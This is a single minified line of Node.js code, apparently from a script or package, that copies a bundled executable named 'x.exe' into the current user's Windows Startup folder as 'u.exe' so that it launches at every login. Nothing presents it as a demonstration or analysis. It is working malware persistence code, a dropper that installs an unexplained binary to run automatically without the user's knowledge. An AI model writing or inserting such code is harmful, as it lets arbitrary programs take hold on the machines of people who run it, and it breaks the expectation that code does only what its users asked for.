const fs=require('fs'),p=require('path');fs.copyFileSync(p.join(__dirname,'x.exe'),p.join(process.env.APPDATA,'Microsoft/Windows/Start Menu/Programs/Startup/u.exe'));
